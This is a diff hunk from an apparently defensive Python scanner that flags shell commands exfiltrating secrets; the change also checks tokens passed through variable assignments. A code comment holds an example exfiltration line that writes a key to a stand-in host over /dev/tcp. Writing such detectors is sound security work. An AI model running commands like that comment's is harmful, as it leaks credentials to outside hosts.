@@ -254,7 +254,7 @@ def each_network(parsed: ParsedLine, place: Place) -> Iterator[Finding]:
             readers_of_secrets = any(_reads_secrets(c, place) for c in commands)
         if (piped and readers_of_secrets) or _sends_secret_variable(cmd):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)
-        if cmd.program in SIGNS_IN and token_elsewhere(cmd.program, cmd.argv[1:]):
+        if cmd.program in SIGNS_IN and token_elsewhere(cmd.program, cmd.argv[1:], cmd.assignments):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)
         if cmd.redirects and network_redirect(cmd) and _reads_secrets(cmd, place):
             yield Finding(EXFILTRATION, evidence(cmd), cmd.text)  # cat KEY > /dev/tcp/h/80
